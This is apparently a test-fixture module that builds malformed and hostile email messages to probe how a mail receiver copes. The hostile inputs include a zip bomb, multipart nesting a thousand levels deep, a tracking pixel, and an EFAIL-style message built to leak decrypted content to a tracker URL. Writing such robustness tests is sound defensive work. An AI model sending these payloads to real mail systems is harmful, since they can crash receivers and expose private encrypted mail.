/**
 * Messages that put a receiver to the test by what they carry: unusual octets, many parts, large things, notices.
 *
 * @module
 */
import { deflateRawSync } from 'node:zlib';
import { type Attachment, composeMessage, messageHeader, multipart } from '../../../mail/compose.ts';
import { composeDsn } from '../../../mail/dsn.ts';
import { composeMdn } from '../../../mail/mdn.ts';
import type { Content, ContentHeader } from './content.ts';

export type OddContent = Exclude<Content, 'text' | 'mixed' | 'cda' | 'image' | 'pdf' | 'inner-signed'>;

type Header = ContentHeader & { readonly subject: string };

/** Of the message as it is on the wire; Base64 makes four octets of three. */
const LARGE = 40_000_000;
const ATTACHMENTS = 100;
const DEPTH = 1000;
/** Of the file in the zip bomb, before it is deflated. */
const BOMB = 64 << 20;
const LINE = 20_000;

/** Where a page with a remote picture would fetch it, so that whoever fetches it is seen. */
export const trackerUrl = (pages: string): string => `${pages}/tracker.gif`;

export function oddMessage(content: OddContent, header: Header): Uint8Array {
  switch (content) {
    case 'html':
      return raw(header, 'text/html; charset=us-ascii', '7bit', [
        '<html><body><p>A page.</p>',
        `<img src="${trackerUrl(header.pages)}" width="1" height="1">`,
        '</body></html>',
      ]);
    case 'line-feeds': {
      const message = raw(header, 'text/plain; charset=us-ascii', '7bit', ['one line', 'and another', '']);
      return Buffer.from(message.toString('latin1').replaceAll('\r\n', '\n'), 'latin1');
    }
    case 'eight-bit':
      return raw(header, 'text/plain; charset=utf-8', '8bit', ['Größe, naïve, 薬, 💊']);
    case 'latin-1':
      return raw(header, 'text/plain; charset=iso-8859-1', '8bit', ['Gr\u00f6\u00dfe, na\u00efve'], 'latin1');
    case 'trailing-blanks':
      return raw(header, 'text/plain; charset=us-ascii', '7bit', ['blanks   ', '\ttab\t', ' ', '', 'end  ']);
    case 'long-line':
      return raw(header, 'text/plain; charset=us-ascii', '7bit', ['x'.repeat(LINE), 'short']);
    case 'large':
      return composeMessage({ ...header, text: TEXT, attachments: [file('scan.bin', (LARGE * 3) / 4)] });
    case 'attachments': {
      const attachments = Array.from({ length: ATTACHMENTS }, (_, index) => file(`page-${index}.bin`, 300));
      return composeMessage({ ...header, text: TEXT, attachments });
    }
    case 'nested':
      return nested(header);
    case 'zip-bomb': {
      const bytes = zipOf('IHE_XDM/SUBSET01/DOC0001.XML', new Uint8Array(BOMB));
      return composeMessage({
        ...header,
        subject: 'XDM/1.0/DDM',
        text: TEXT,
        attachments: [{ name: 'xdm.zip', type: 'application/zip', bytes }],
      });
    }
    case 'processed':
      return composeMdn({
        ...header,
        text: 'Processed.',
        reportingUa: 'hisp.example; test',
        finalRecipient: header.from,
        originalMessageId: UNKNOWN,
        disposition: 'processed',
      });
    case 'dsn':
      return composeDsn({
        ...header,
        text: 'Not delivered.',
        reportingMta: 'hisp.example',
        originalMessageId: UNKNOWN,
        recipients: [
          { finalRecipient: header.from, action: 'failed', status: '5.1.1', reason: 'edge.unknown-mailbox' },
        ],
      });
  }
}

const TEXT = 'This is a synthetic test message. It is about no person.\n';
/** No message of the system under test. */
const UNKNOWN = 'nobody-sent-this@elsewhere.example';

function raw(
  header: Header,
  type: string,
  encoding: '7bit' | '8bit',
  lines: readonly string[],
  charset: 'utf8' | 'latin1' = 'utf8',
): Buffer {
  const head = [
    `${messageHeader(header)}MIME-Version: 1.0`,
    `Content-Type: ${type}`,
    `Content-Transfer-Encoding: ${encoding}`,
    '',
    '',
  ].join('\r\n');
  return Buffer.from(`${head}${lines.join('\r\n')}\r\n`, charset);
}

/** Octets that no compression makes small and that are the same each time. */
function file(name: string, octets: number): Attachment {
  const bytes = Buffer.alloc(Math.floor(octets));
  for (let at = 0, state = name.length + 1; at < bytes.length; at++) {
    state = (state * 1103515245 + 12345) & 0x7fffffff;
    bytes[at] = state >> 16;
  }
  return { name, type: 'application/octet-stream', bytes };
}

/** A multipart in a multipart in a multipart, a thousand deep, written from the outside in. */
function nested(header: Header): Uint8Array {
  const open = Array.from(
    { length: DEPTH },
    (_, level) => `Content-Type: multipart/mixed; boundary="level-${level}"\r\n\r\n--level-${level}\r\n`,
  );
  const close = Array.from({ length: DEPTH }, (_, index) => `\r\n--level-${DEPTH - 1 - index}--`);
  const text = 'Content-Type: text/plain\r\n\r\nAt the bottom.';
  return Buffer.from(
    `${messageHeader(header)}MIME-Version: 1.0\r\n${open.join('')}${text}${close.join('')}\r\n`,
    'latin1',
  );
}

/** A zip archive with one deflated file (APPNOTE 4.3). The checksum is left at zero: nobody is to get that far. */
function zipOf(name: string, content: Uint8Array): Uint8Array {
  const packed = deflateRawSync(content);
  const path = Buffer.from(name);
  const common = Buffer.alloc(26);
  common.writeUInt16LE(20, 0);
  common.writeUInt16LE(8, 4);
  common.writeUInt32LE(packed.length, 14);
  common.writeUInt32LE(content.length, 18);
  common.writeUInt16LE(path.length, 22);
  const local = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), common, path, packed]);
  const directory = Buffer.concat([
    Buffer.from('PK\x01\x02\x14\x00', 'latin1'),
    common,
    Buffer.alloc(14),
    path,
  ]);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, directory, end]);
}

/** An outer message of several parts with the encrypted one between two halves of a page (EFAIL, direct exfiltration). */
export function leakingParts(header: Header, enveloped: Uint8Array): Uint8Array {
  const page = (half: string): Uint8Array => Buffer.from(`Content-Type: text/html\r\n\r\n${half}`, 'latin1');
  const before = page(`<img src="${trackerUrl(header.pages)}?`);
  const after = page('">');
  const body = multipart('multipart/mixed', {}, header.boundary, [before, enveloped, after]);
  return Buffer.concat([Buffer.from(`${messageHeader(header)}MIME-Version: 1.0\r\n`, 'latin1'), body]);
}
